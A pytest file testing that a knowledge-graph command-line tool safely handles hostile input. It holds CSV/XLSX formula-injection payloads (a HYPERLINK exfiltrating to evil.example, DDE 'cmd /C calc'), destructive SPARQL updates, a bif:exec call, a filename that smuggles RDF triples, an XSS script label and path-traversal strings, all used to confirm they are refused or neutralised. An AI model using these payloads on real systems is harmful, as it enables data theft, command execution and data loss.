"""Issue #16's fault probes, each a fixture: hostile or unlucky input gives one clear error line,
a non-zero exit and nothing lost, or correct work within bounds.

Numbers in the test names follow the issue's findings (1 read-only query, 2 formula injection,
3 hostile file names, 5 page marks, 6 merge locks and temporary files, 7 import losing rows,
13 bad output paths …).
"""

from __future__ import annotations

import json
import multiprocessing
import os
import zipfile
from pathlib import Path

import pytest

EVIL_FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                 "+1+cmd|' /C calc'!A0", "-2+3"]


def _one_line_error(r, *needles: str) -> None:
    assert r.code != 0, r.out
    assert "Traceback" not in r.err
    lines = [ln for ln in r.err.splitlines() if ln.startswith(("error:", "Error:"))]  # ours, or click's usage error
    assert len(lines) == 1, r.err
    for n in needles:
        assert n in lines[0], r.err


def _count(run_cli, *global_args: str) -> int:
    r = run_cli(*global_args, "query", "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }", "--format", "json")
    assert r.code == 0, r.err
    return r.json()[0]["n"]


# ----------------------------------------------------------------------------- 1 read-only query


@pytest.mark.parametrize("update", [
    "CLEAR GRAPH <https://w3id.org/chaingraph/graph>",
    "DROP ALL",
    "INSERT DATA { cg:x cg:y cg:z }",
    "DELETE WHERE { ?s ?p ?o }",
    "DELETE { ?s ?p ?o } INSERT { ?s ?p 1 } WHERE { ?s ?p ?o }",
    "LOAD <http://evil.example/x.ttl>",
])
def test_1_query_refuses_updates_on_the_embedded_store(run_cli, update):
    before = _count(run_cli)
    r = run_cli("query", update)
    _one_line_error(r, "read-only", "refused")
    assert "CONSTRUCT" not in r.err  # the old, misleading parser message
    assert _count(run_cli) == before


def test_1_query_refuses_service_unless_allowed(run_cli):
    r = run_cli("query", "SELECT * WHERE { SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o } }")
    _one_line_error(r, "SERVICE", "--allow-service")
    from chaingraph.store.sparql import check_read_only

    check_read_only("SELECT * WHERE { SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o } }", allow_service=True)


def test_1_query_refuses_server_sql_functions(run_cli):
    r = run_cli("query", "PREFIX bif: <bif:> SELECT * WHERE { ?s ?p ?o FILTER(bif:exec('x')) } LIMIT 1")
    _one_line_error(r, "bif:exec")


def test_1_bad_query_points_at_the_users_line(run_cli):
    r = run_cli("query", "SELECT ?s\nWHERE { ?s a }")
    _one_line_error(r, "bad SPARQL query", "line 2")


# ----------------------------------------------------------------------------- 2 formula injection


def _import_evil(run_cli, tmp_path) -> Path:
    rows = ["name,products"] + ['"{}",液晶玻璃基板'.format(n.replace('"', '""')) for n in EVIL_FORMULAS]
    p = tmp_path / "evil.csv"
    p.write_text("\n".join(rows) + "\n", encoding="utf-8")
    r = run_cli("import", str(p))
    assert r.code == 0, r.err
    return p


def test_2_xlsx_cells_are_text_never_formulas(run_cli, tmp_path):
    from openpyxl import load_workbook

    _import_evil(run_cli, tmp_path)
    out = tmp_path / "t.xlsx"
    r = run_cli("targets", "--segment", "玻璃基板", "--top", "0", "--format", "xlsx", "-o", str(out))
    assert r.code == 0, r.err
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    names = {c.value for ws in load_workbook(out) for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert set(EVIL_FORMULAS) <= names


def test_2_report_xlsx_is_written_by_the_same_safe_writer(run_cli, tmp_path):
    _import_evil(run_cli, tmp_path)
    r = run_cli("report", "-o", str(tmp_path / "rep"), "--chain", "先进电子器件", "--format", "json")
    assert r.code == 0, r.err
    assert r.json()["xlsx_writer"] == "chaingraph.target_list.write_target_list"
    with zipfile.ZipFile(tmp_path / "rep" / "targets.xlsx") as z:
        assert not any("<f>" in z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_2_csv_cells_are_neutralised(run_cli, tmp_path):
    import csv
    import io

    _import_evil(run_cli, tmp_path)
    r = run_cli("targets", "--segment", "玻璃基板", "--top", "0", "--format", "csv")
    assert r.code == 0, r.err
    rows = list(csv.DictReader(io.StringIO(r.out)))
    names = {row["name"] for row in rows}
    assert {"'" + n for n in EVIL_FORMULAS} <= names
    assert all(not v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values() if v)
    assert any(float(row["score"]) > 0 for row in rows)  # numbers stay numbers


def test_2_excel_writer_survives_control_characters_and_long_cells(tmp_path):
    from openpyxl import load_workbook

    from chaingraph.excel import MAX_CELL, Sheet, write_workbook

    write_workbook([Sheet("a[b]:c/d*?" * 5, ["名称"], [["骏捷\x01\x07智能"], ["长" * 40000], [1.5]])], tmp_path / "x.xlsx")
    ws = load_workbook(tmp_path / "x.xlsx").active
    assert ws["A2"].value == "骏捷智能" and len(ws["A3"].value) <= MAX_CELL and ws["A4"].value == 1.5


# ----------------------------------------------------------------------------- 3 hostile file names


def test_3_newline_in_an_imported_file_name_adds_no_triples(run_cli, tmp_path):
    name = "list\ncg:Injected a cg:Company ; rdfs:label \"注入\"@zh .\n#.csv"
    p = tmp_path / name
    p.write_text("name,products\n甲电镀,电镀加工\n", encoding="utf-8")
    r = run_cli("import", str(p))
    assert r.code == 0, r.err
    r = run_cli("query", "ASK { cg:Injected ?p ?o }")
    assert r.code == 0 and r.out.strip() == "false"
    assert run_cli("validate").code == 0


def test_3_undecodable_file_name_writes_a_good_file(run_cli, tmp_path):
    p = Path(os.fsdecode(bytes(tmp_path) + b"/\xff\xfe\x01.csv"))
    p.write_text("name,products\n乙电镀,电镀加工\n", encoding="utf-8")
    r = run_cli("import", str(p))
    assert r.code == 0, r.err
    r = run_cli("company", "乙电镀", "--format", "json")
    assert r.code == 0, r.err


# ----------------------------------------------------------------------------- 5 page template marks


@pytest.mark.parametrize("label", ["@@CHAINGRAPH_VIEW_JSON@@", "@@CHAINGRAPH_JS@@ @@CHAINGRAPH_CSS@@", "</title><script>alert(1)</script>"])
def test_5_park_label_with_page_marks(bundled_graph, label):
    import re

    from chaingraph.viz import build_view
    from chaingraph.viz.page import page_html

    view = build_view(bundled_graph, targets=0)
    view["meta"]["title"] = label + " 全景图谱"
    page = page_html(view)
    data = re.search(r'<script type="application/json" id="cg-data">(.*?)</script>', page, re.S).group(1)
    assert json.loads(data)["meta"]["title"] == label + " 全景图谱"
    assert "@@CHAINGRAPH" not in page.replace(data, "")
    assert "<script>alert(1)" not in page


# ----------------------------------------------------------------------------- 6 merge locks, temp files


def _staging(tmp_path: Path, n: int, tag: str) -> Path:
    lines = ["@prefix cg: <https://w3id.org/chaingraph/ns#> .", "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .",
             "@prefix company: <https://w3id.org/chaingraph/id/company/> ."]
    for i in range(n):
        lines.append(f'company:probe-{tag}-{i} a cg:Company ; rdfs:label "探针{tag}{i}号电镀科技"@zh .')
    p = tmp_path / f"staging-{tag}.ttl"
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return p


def _merge_in_process(args):
    home, staging = args
    os.environ["CHAINGRAPH_HOME"] = home
    os.environ["CHAINGRAPH_STORE"] = "memory"
    from chaingraph.ingest.pipeline import merge_file
    from chaingraph.store import GraphSource, load_files, user_data_dir

    graph = load_files(GraphSource(include_bundled=False, include_user=False).files())
    return merge_file(graph, Path(staging), user_data_dir())["added"]


def test_6_concurrent_merges_keep_both(tmp_path, isolated_home):
    a, b = _staging(tmp_path, 40, "a"), _staging(tmp_path, 40, "b")
    ctx = multiprocessing.get_context("fork")
    with ctx.Pool(2) as pool:
        added = pool.map(_merge_in_process, [(str(isolated_home), str(a)), (str(isolated_home), str(b))])
    assert all(n > 0 for n in added)
    text = (isolated_home / "data" / "ingested.ttl").read_text(encoding="utf-8")
    assert all(f"probe-a-{i}" in text and f"probe-b-{i}" in text for i in range(40))


def test_6_leftover_temporary_files_are_not_loaded(run_cli, isolated_home):
    data = isolated_home / "data"
    data.mkdir()
    (data / ".ingested-k9x2.ttl").write_text("@prefix cg: <https://w3id.org/chaingraph/ns#> .\ncg:a cg:b \"cut off", encoding="utf-8")
    (data / ".ingested.ttl.abc.part").write_text("garbage", encoding="utf-8")
    r = run_cli("stats")
    assert r.code == 0, r.err


# ----------------------------------------------------------------------------- 7 import losing rows


def test_7_stray_quote_mid_field_keeps_every_row(run_cli, tmp_path):
    p = tmp_path / "list.csv"
    p.write_text('name,products\n甲"电镀,电镀加工\n乙电镀,电镀加工\n丙电镀,电镀加工\n', encoding="utf-8")
    r = run_cli("import", str(p), "--format", "json")
    assert r.code == 0, r.err
    assert [f["name"] for f in r.json()["firms"]] == ['甲"电镀', "乙电镀", "丙电镀"]


def test_7_stray_opening_quote_is_a_bad_row_and_swallows_nothing(run_cli, tmp_path):
    p = tmp_path / "list.csv"
    p.write_text('name,products\n"甲电镀,电镀加工\n乙电镀,电镀加工\n丙电镀,电镀加工\n', encoding="utf-8")
    r = run_cli("import", str(p))
    _one_line_error(r, "1 bad row", "nothing imported")
    assert "row 2: unclosed quote" in r.err
    r = run_cli("import", str(p), "--skip-bad", "--format", "json")
    assert r.code == 0, r.err
    assert "row 2: unclosed quote" in r.err
    assert [f["name"] for f in r.json()["firms"]] == ["乙电镀", "丙电镀"]


def test_7_skip_bad_with_no_good_row_is_an_error(run_cli, tmp_path):
    p = tmp_path / "list.csv"
    p.write_text("name,tiers\n甲,龙头\n乙,龙头\n", encoding="utf-8")
    r = run_cli("import", str(p), "--skip-bad")
    _one_line_error(r, "every row of", "is bad (2)", "nothing imported")
    assert "row 2:" in r.err and "row 3:" in r.err


def test_7_same_file_name_from_two_folders_keeps_both(run_cli, tmp_path, isolated_home):
    for folder, firm in (("a", "甲电镀"), ("b", "乙电镀")):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "名单.csv").write_text(f"name,products\n{firm},电镀加工\n", encoding="utf-8")
        assert run_cli("import", str(tmp_path / folder / "名单.csv")).code == 0
    assert run_cli("import", str(tmp_path / "a" / "名单.csv")).code == 0  # re-import replaces its own file
    assert len(list((isolated_home / "data" / "imports").glob("*.ttl"))) == 2
    for firm in ("甲电镀", "乙电镀"):
        assert run_cli("company", firm).code == 0


def test_7_header_only_csv_is_an_error(run_cli, tmp_path, isolated_home):
    p = tmp_path / "list.csv"
    p.write_text("name,products\n", encoding="utf-8")
    _one_line_error(run_cli("import", str(p)), "no rows after the header")
    assert not (isolated_home / "data" / "imports").exists()


# ----------------------------------------------------------------------------- 10 bounded work


def test_10_long_row_is_quoted_once_not_per_segment_link(tmp_path):
    from chaingraph.pool.chainkg import segments_from_graph
    from chaingraph.pool.csv_import import import_csv
    from chaingraph.store import GraphSource, open_graph

    segs = segments_from_graph(open_graph(GraphSource(include_user=False)))
    terms = [t for s in segs for t in s["terms"]][:400]
    sizes = []
    for n, note in enumerate(("备注" * 1000, "备注" * 5000)):
        p = tmp_path / f"wide{n}.csv"
        p.write_text("name,products,note\n宽行企业,{},{}\n".format("；".join(terms), note), encoding="utf-8")
        rep = import_csv(p, segs, out_dir=tmp_path / "out")
        assert len(rep["firms"][0]["segments"]) > 20
        sizes.append((p.stat().st_size, Path(rep["written"]).stat().st_size))
    (in0, out0), (in1, out1) = sizes
    assert out1 - out0 < 3 * (in1 - in0), sizes  # the row's text appears a bounded number of times


def test_13_row_over_128_kib_is_a_bad_row(run_cli, tmp_path):
    p = tmp_path / "big.csv"
    p.write_text("name,note\n甲,{}\n乙,短\n".format("长" * 140_000), encoding="utf-8")
    r = run_cli("import", str(p))
    _one_line_error(r, "1 bad row")
    assert "row 2: row too long" in r.err


# ----------------------------------------------------------------------------- 13 bad output paths


@pytest.mark.parametrize("args,needle", [
    (("targets", "--format", "xlsx", "-o", "{dir}"), "is a directory"),
    (("targets", "--format", "xlsx", "-o", "{file}/x.xlsx"), "cannot write"),
    (("targets", "--format", "csv", "-o", "{file}/x.csv"), "cannot write"),
    (("viz", "-o", "{dir}"), "is a directory"),
    (("viz", "-o", "{file}/map.html"), "cannot write"),
    (("report", "-o", "{file}"), "is a file"),
    (("report", "-o", "{file}/sub"), "cannot write"),
    (("ingest", "{article}", "-o", "{dir}"), "is a directory"),
    (("ingest", "{article}", "-o", "{file}/s.ttl"), "cannot write"),
])
def test_13_bad_output_paths_are_one_error(run_cli, tmp_path, args, needle):
    (tmp_path / "d").mkdir()
    (tmp_path / "f").write_text("keep me", encoding="utf-8")
    article = tmp_path / "a.txt"
    article.write_text("湖南骏捷智能科技有限公司落户永州经开区。", encoding="utf-8")
    fill = {"dir": str(tmp_path / "d"), "file": str(tmp_path / "f"), "article": str(article)}
    r = run_cli(*[a.format(**fill) for a in args])
    _one_line_error(r, needle)
    assert (tmp_path / "f").read_text(encoding="utf-8") == "keep me"
    assert list((tmp_path / "d").iterdir()) == []


def test_13_unwritable_output_folder(run_cli, tmp_path):
    if os.geteuid() == 0:
        pytest.skip("root writes anywhere")
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o500)
    try:
        _one_line_error(run_cli("viz", "-o", str(ro / "map.html")), "cannot write", "Permission denied")
    finally:
        ro.chmod(0o700)


# ----------------------------------------------------------------------------- 13 weights, encodings, sizes


@pytest.mark.parametrize("value", ["inf", "-inf", "nan", "1e999"])
def test_13_infinite_weight_is_refused(run_cli, value):
    r = run_cli("gaps", "--weight", f"planning={value}", "--format", "json")
    _one_line_error(r, "planning", "finite")


def test_13_all_zero_weights_are_refused(run_cli, tmp_path):
    from chaingraph.analysis.gaps import DEFAULT_WEIGHTS

    w = tmp_path / "w.json"
    w.write_text(json.dumps({k: 0 for k in DEFAULT_WEIGHTS}), encoding="utf-8")
    _one_line_error(run_cli("gaps", "--weights", str(w)), "cannot all be 0")


@pytest.mark.parametrize("encoding", ["big5", "utf-16", "utf-16-le", "utf-16-be", "gb18030", "utf-8-sig"])
def test_13_traditional_and_utf16_articles_are_read(tmp_path, encoding):
    from chaingraph.ingest.reading import read_source

    seed = Path(__file__).resolve().parents[2] / "shared" / "seeds"
    texts = sorted(seed.glob("*.txt"))
    if not texts:
        pytest.skip("seed articles not available")
    text = texts[0].read_text(encoding="utf-8")
    text = text.encode("big5", errors="ignore").decode("big5") if encoding == "big5" else text
    p = tmp_path / "a.txt"
    p.write_bytes(text.encode(encoding))
    src = read_source(p)
    assert src.text.lstrip("\ufeff") == text.lstrip("\ufeff")


def test_13_binary_is_still_binary(tmp_path):
    from chaingraph.errors import ChaingraphError
    from chaingraph.ingest.reading import read_source

    p = tmp_path / "a.txt"
    p.write_bytes(bytes(range(256)) * 40)
    with pytest.raises(ChaingraphError, match="binary|cannot decode"):
        read_source(p)


def test_10_ingest_refuses_huge_and_unpunctuated_articles(run_cli, tmp_path):
    from chaingraph.ingest.reading import MAX_ARTICLE_BYTES, MAX_UNPUNCTUATED

    flat = tmp_path / "flat.txt"
    flat.write_text("永州经开区电子信息产业" * (MAX_UNPUNCTUATED // 5), encoding="utf-8")
    _one_line_error(run_cli("ingest", str(flat)), "without punctuation")
    huge = tmp_path / "huge.txt"
    huge.write_text("湖南骏捷智能科技有限公司落户永州经开区。\n" * (MAX_ARTICLE_BYTES // 50), encoding="utf-8")
    _one_line_error(run_cli("ingest", str(huge)), "too large")


# ----------------------------------------------------------------------------- 12 snapshot checksum


def _snapshot_file(home: Path) -> Path:
    found = sorted(home.glob("store/**/analysis.marshal"))
    assert found, list(home.rglob("*"))[:20]
    return found[-1]


@pytest.mark.parametrize("damage", ["cut", "zero", "flip"])
def test_12_damaged_snapshot_is_detected_and_recomputed(run_cli, isolated_home, damage):
    from chaingraph.store import store_mode

    if store_mode() != "disk":
        pytest.skip("embedded disk store only")
    assert run_cli("build").code == 0
    before = run_cli("gaps", "--format", "json")
    assert before.code == 0, before.err
    path = _snapshot_file(isolated_home)
    raw = path.read_bytes()
    if damage == "cut":
        raw = raw[: len(raw) * 2 // 3]
    elif damage == "zero":
        raw = raw[:100] + b"\0" * 4096 + raw[4196:]
    else:
        raw = raw[:-10] + bytes([raw[-10] ^ 1]) + raw[-9:]
    path.write_bytes(raw)
    from chaingraph.analysis import snapshot

    snapshot.LOADED.clear()
    after = run_cli("gaps", "--format", "json")
    assert after.code == 0, after.err
    assert after.json() == before.json()
    assert "damaged" in after.err
    assert snapshot.read(path.parent) is not None  # written again, whole


# ----------------------------------------------------------------------------- 11 damaged or unwritable store


def _disk_only():
    from chaingraph.store import store_mode

    if store_mode() != "disk":
        pytest.skip("embedded disk store only")


def _live_build(home: Path) -> Path:
    return home / "store" / (home / "store" / "CURRENT").read_text(encoding="utf-8").strip()


def _forget_open_builds():
    from chaingraph.analysis import snapshot
    from chaingraph.store import builds

    for fd in builds.OPEN_READERS.values():
        os.close(fd)
    builds.OPEN_READERS.clear()
    snapshot.LOADED.clear()


@pytest.mark.parametrize("damage", ["cut", "zero", "delete"])
def test_11_damaged_store_is_rebuilt(run_cli, isolated_home, damage):
    _disk_only()
    base = run_cli("--no-user-data", "stats", "--format", "json")
    assert base.code == 0, base.err
    _forget_open_builds()
    ssts = sorted((_live_build(isolated_home) / "oxigraph").glob("*.sst"))
    for f in ssts:
        if damage == "cut":
            os.truncate(f, min(100, f.stat().st_size))
        elif damage == "zero":
            raw = bytearray(f.read_bytes())
            raw[len(raw) // 4: len(raw) * 3 // 4] = bytes(len(raw) * 3 // 4 - len(raw) // 4)
            f.write_bytes(bytes(raw))
        else:
            f.unlink()
    first = run_cli("--no-user-data", "stats", "--format", "json")
    assert "Traceback" not in first.err
    if first.code != 0:  # a corrupt block met while querying: one line, and the store is marked
        _one_line_error(first, "damaged", "rebuilds")
    else:
        assert first.json() == base.json() and "damaged" in first.err
    _forget_open_builds()
    second = run_cli("--no-user-data", "stats", "--format", "json")
    assert second.code == 0, second.err
    assert second.json() == base.json()
    _forget_open_builds()


@pytest.mark.parametrize("err", ["ENOSPC", "EROFS"])
def test_11_full_disk_or_read_only_fs_falls_back_to_memory(run_cli, monkeypatch, err):
    import errno

    _disk_only()
    from chaingraph.store import disk

    def fail(*a, **k):
        raise OSError(getattr(errno, err), os.strerror(getattr(errno, err)), str(disk.store_root()))

    monkeypatch.setattr(disk, "_load_store", fail)
    r = run_cli("--no-user-data", "stats", "--format", "json")
    assert r.code == 0, r.err
    assert "into memory instead" in r.err and os.strerror(getattr(errno, err)) in r.err
    assert r.json()[0]["count"] > 0
    b = run_cli("--no-user-data", "build")
    _one_line_error(b, os.strerror(getattr(errno, err)))


def test_11_up_to_date_store_that_cannot_be_written_opens_at_once(run_cli, isolated_home, monkeypatch):
    import errno
    import time

    _disk_only()
    assert run_cli("--no-user-data", "stats").code == 0
    _forget_open_builds()
    real_open = os.open

    def read_only_open(path, flags, *a, **k):
        if str(path).endswith("inuse") and flags & (os.O_RDWR | os.O_WRONLY | os.O_CREAT):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_open(path, flags, *a, **k)

    from chaingraph.store import disk

    monkeypatch.setattr(disk.os, "open", read_only_open)
    t = time.monotonic()
    r = run_cli("--no-user-data", "stats")
    assert r.code == 0, r.err
    assert time.monotonic() - t < 30  # it waited 60 s for a lock it could never take, then said "store busy"
    assert "busy" not in r.err
    _forget_open_builds()


# ----------------------------------------------------------------------------- the whole CLI, hostile input


def _hostile_cases(tmp: Path) -> list[tuple[str, ...]]:
    binary = tmp / "bin.dat"
    binary.write_bytes(bytes(range(256)) * 64)
    empty = tmp / "empty.txt"
    empty.write_bytes(b"")
    garbage_ttl = tmp / "bad" / "x.ttl"
    garbage_ttl.parent.mkdir()
    garbage_ttl.write_bytes(b"@prefix : <x> . :a :b \xff\xfe \"unterminated\n")
    utf16 = tmp / "list16.csv"
    utf16.write_text("name,products\n甲电镀,电镀加工\n", encoding="utf-16")
    weights = tmp / "w.json"
    weights.write_text('{"planning": "lots", "x": [1]}', encoding="utf-8")
    evil = ["", " ", "\x00", "' } ; DROP ALL ; #", "@@CHAINGRAPH_VIEW_JSON@@", "=1+1", "骏" * 5000, "../../etc/passwd",
            "%s%n", "\u202e\u2028"]
    cases: list[tuple[str, ...]] = []
    for name in evil:
        cases += [("company", name), ("gaps", "--chain", name), ("gaps", "--without", name), ("targets", "--segment", name),
                  ("targets", "--region", name, "--top", "1"), ("chain", name), ("query", name), ("gaps", "--park", name)]
    for path in (binary, empty, tmp / "missing.csv", tmp, utf16):
        cases += [("import", str(path)), ("ingest", str(path)), ("merge", str(path)), ("validate", str(path))]
    cases += [
        ("--data", str(garbage_ttl.parent), "stats"), ("--data", str(tmp / "nope"), "gaps"),
        ("--endpoint", "ftp://example.org/sparql", "stats"), ("--endpoint", "http://127.0.0.1:1/sparql", "company", "骏捷"),
        ("--endpoint", "not a url", "gaps"), ("gaps", "--weight", "planning"), ("gaps", "--weight", "nope=1"),
        ("gaps", "--weights", str(weights)), ("gaps", "--weights", str(binary)), ("targets", "--weights", str(binary)),
        ("targets", "--top", "-1"), ("targets", "--format", "xlsx"), ("viz", "-o", str(binary) + "/x.html"),
        ("report", "-o", str(binary)), ("pool", "build", str(tmp / "nope")), ("pool", "build", str(tmp)),
        ("query", "--file", str(binary)), ("query", "SELECT * WHERE { ?s ?p ?o } LIMIT -1"),
        ("query", "CONSTRUCT WHERE { ?s ?p ?o } LIMIT 1; DROP ALL"),
    ]
    return cases


def test_the_whole_cli_over_hostile_inputs_never_prints_a_traceback(run_cli, tmp_path):
    failures = []
    for args in _hostile_cases(tmp_path):
        try:
            r = run_cli(*args)
        except BaseException as exc:  # noqa: BLE001 - anything escaping main() is a failure here
            failures.append(f"{args!r}: raised {type(exc).__name__}: {exc}")
            continue
        if "Traceback" in r.err or "Traceback" in r.out:
            failures.append(f"{args!r}: traceback\n{r.err[-500:]}")
        elif args[0] == "validate" and r.code == 1 and ("problem" in r.out or "问题" in r.out):
            continue  # validate's answer is its report (stdout) and exit 1
        elif r.code != 0 and not any(ln.startswith(("error:", "Error:")) for ln in r.err.splitlines()):
            failures.append(f"{args!r}: exit {r.code} without an error line: {r.err[-300:]!r}")
    assert not failures, "\n".join(failures)


# ----------------------------------------------------------------------------- 9 merge: shapes, blank nodes

_STAGING_HEAD = """@prefix cg: <https://w3id.org/chaingraph/ns#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix company: <https://w3id.org/chaingraph/id/company/> .
@prefix src: <https://w3id.org/chaingraph/id/source/> .
@prefix fact: <https://w3id.org/chaingraph/id/fact/> .
"""


def test_9_merge_leaves_out_facts_that_break_the_shapes(run_cli, tmp_path, isolated_home):
    staging = tmp_path / "s.ttl"
    staging.write_text(_STAGING_HEAD + """
src:probe a cg:Source ; rdfs:label "探针文章"@zh ; cg:fileName "probe.txt" .
fact:project-probe a cg:Project ; cg:firm company:probe-firm ;
    cg:evidence [ a cg:Evidence ; cg:source src:probe ; cg:quote "探针" ; cg:start 0 ; cg:end 2 ] .
company:probe-firm a cg:Company ; rdfs:label "探针电镀科技"@zh ;
    cg:evidence [ a cg:Evidence ; cg:source src:probe ; cg:quote "探针电镀科技" ; cg:start 0 ; cg:end 6 ] .
""", encoding="utf-8")
    r = run_cli("merge", str(staging), "--format", "json")
    assert r.code == 0, r.err
    assert "not merged" in r.err and "project" in r.err
    text = (isolated_home / "data" / "ingested.ttl").read_text(encoding="utf-8")
    assert "probe-firm" in text and "cg:Project" not in text


def test_9_merging_blank_nodes_twice_adds_nothing(run_cli, tmp_path, isolated_home):
    staging = tmp_path / "s.ttl"
    staging.write_text(_STAGING_HEAD + """
src:probe a cg:Source ; rdfs:label "探针文章"@zh ; cg:fileName "probe.txt" .
company:probe-firm a cg:Company ; rdfs:label "探针电镀科技"@zh ;
    cg:evidence [ a cg:Evidence ; cg:source src:probe ; cg:quote "探针电镀科技" ; cg:start 0 ; cg:end 6 ] .
""", encoding="utf-8")
    first = run_cli("merge", str(staging), "--format", "json")
    assert first.code == 0 and first.json()["added"] > 0, first.err
    second = run_cli("merge", str(staging), "--format", "json")
    assert second.code == 0 and second.json()["added"] == 0, second.out
